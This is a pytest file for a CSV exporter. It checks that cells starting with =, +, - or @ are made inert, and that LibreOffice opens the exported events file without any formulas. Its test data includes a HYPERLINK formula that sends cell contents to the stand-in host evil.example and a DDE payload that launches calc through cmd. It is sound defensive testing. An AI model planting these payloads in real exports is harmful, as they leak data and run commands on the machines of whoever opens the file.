"""No CSV of ours holds a formula, wherever a spreadsheet splits it; numbers and words stay what they are."""

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest

from flfed.export.run_folder import export
from flfed.records.store.entries import EventRow
from flfed.records.store.writer import RunStore
from flfed.spreadsheet import csv_text, plain_cell

LINK = '=HYPERLINK("https://evil.example/?"&A1;"open")'
BETWEEN = ["", " ", "\xa0", ";", "; ", ' "', ';"', "|", "\t", '"\t', "\n", "\r\n", "\r", "\v", "\u2028", "\u200b"]
SEPARATORS = {",": "44", ";": "59", "\t": "9", "|": "124", " ": "32", "any of , ; tab": "44/59/9"}
TRAPS = [f"{start}{between}{LINK}" for start in ("", "late", 'so "it"') for between in BETWEEN]
FULL_WIDTH = ["＝1+1", "＋A1", "－A1", "＠SUM(A1)", "﹦1+1"]


@pytest.mark.parametrize("value", [LINK, "@SUM(A1)", "+A1", "-A1", "-1+cmd|' /C calc'!A0", *FULL_WIDTH])
def test_a_formula_is_text_to_a_spreadsheet(value: str):
    assert plain_cell(value) == f"'{value}"
    assert plain_cell(f" {value}") == f" '{value}"
    assert plain_cell(f"late;{value}") == f"late;'{value}"
    assert plain_cell(plain_cell(value)) == plain_cell(value)


@pytest.mark.parametrize("value", [
    "+0.11", "+0.11 (+0.02\xa0to\xa0+0.20),\xa0shared", "+0.11 (n/a)", "-0.3", -0.3, None, True, 7, "a=b",
    "\u22120.02", "a; b; -0.3", "moved it by +0.0123 (no interval), see: flfed run show --json",
    "norm of the update is 12.1 times the cohort's median (limit 10)", "long-beach",
])  # fmt: skip
def test_figures_and_names_are_given_away_as_they_are(value: object):
    assert plain_cell(value) == value


@pytest.mark.parametrize("sign", [",", ";", "\t", "|"])
def test_a_formula_within_a_text_becomes_no_cell_wherever_a_spreadsheet_splits(sign: str):
    for trap in TRAPS:
        text = csv_text([f"a{trap}", "why", "gain"], [["x", trap, -0.3]])
        split = [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=sign) for cell in line]
        assert sum("=HYPERLINK" in cell for cell in split) == 2
        starts = [cell for cell in split if cell.strip().strip('"\u200b').startswith(("=", "+", "-", "@"))]
        assert starts == (["-0.3"] if sign == "," else []), trap


def test_pandas_reads_the_cells_back_once_the_apostrophe_is_taken_off():
    texts, numbers = ["=1+1", "plain", "-A1", "＝1"], [-0.5, 1e-300, 0.1 + 0.2, None]
    text = csv_text(["why", "gain"], zip(texts, numbers, strict=True))
    read = pd.read_csv(io.StringIO(text), float_precision="round_trip")
    assert read["why"].str.removeprefix("'").to_list() == texts
    assert read["gain"].to_list()[:3] == numbers[:3] and read["gain"].isna().to_list() == [False] * 3 + [True]


def opened(files: list[Path], separator: str, folder: Path) -> list[str]:
    """Open CSV files in LibreOffice, with every cell taken for what it may be; return them as its own XML."""
    program = shutil.which("soffice")
    if program is None:
        pytest.skip("LibreOffice is not installed: apt-get install --no-install-recommends libreoffice-calc-nogui")
    # Separator, quote, UTF-8, from line 1; English numbers, quoted cells not as text, special numbers, formulas.
    way = f"{separator},34,76,1,,1033,false,true,false,false,false,-1,true"
    command = [program, "--headless", "--norestore", f"-env:UserInstallation=file://{folder}/profile"]
    command += [
        "--convert-to", "fods", f"--infilter=Text - txt - csv (StarCalc):{way}", "--outdir", str(folder / "out"),
    ]  # fmt: skip
    subprocess.run([*command, *map(str, files)], check=True, capture_output=True, timeout=120)
    found = [folder / "out" / f"{file.stem}.fods" for file in files]
    sheets = [sheet for one in found for sheet in (one, *one.parent.glob(f"{one.stem}-*.fods"))]
    return [sheet.read_text("utf-8") for sheet in sheets]


@pytest.mark.servers
@pytest.mark.parametrize("name", SEPARATORS)
def test_a_spreadsheet_program_opens_events_csv_without_a_formula(name: str, home: Path, tmp_path: Path):
    with RunStore.open() as store:
        series = store.begin_series(study="s", study_sha256="", study_text='name = "s"', repeats=2)
        for repeat in (0, 1):
            run = store.begin_run(
                series, repeat=repeat, engine="e", path="p", seed=1, rounds_planned=2, primary="log_loss", task="binary"
            )
            run.events([EventRow(1, "a", "note", trap) for trap in (*TRAPS, *FULL_WIDTH)])
    export(series, tmp_path / "run")
    (tmp_path / "bare.csv").write_text(f"a;b\tc,d|e f\n{LINK},-0.5\n", "utf-8")
    bare, *sheets = opened([tmp_path / "bare.csv", tmp_path / "run" / "events.csv"], SEPARATORS[name], tmp_path)
    assert "table:formula=" in bare  # so LibreOffice does take such a cell for a formula
    assert len(sheets) == 1
    assert re.findall('table:formula="[^"]*"', sheets[0]) == []
    assert sheets[0].count("HYPERLINK") >= 2 * len(TRAPS)
